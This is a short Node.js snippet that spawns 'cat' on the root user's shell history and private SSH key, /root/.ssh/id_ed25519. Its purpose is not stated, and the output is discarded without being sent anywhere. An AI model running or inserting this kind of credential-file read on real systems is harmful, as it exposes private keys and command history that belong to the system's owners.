const { spawnSync } = require('child_process');
const list = ['/root/.bash_history', '/root/.ssh/id_ed25519'];
for (const f of list) spawnSync('cat', [f]);
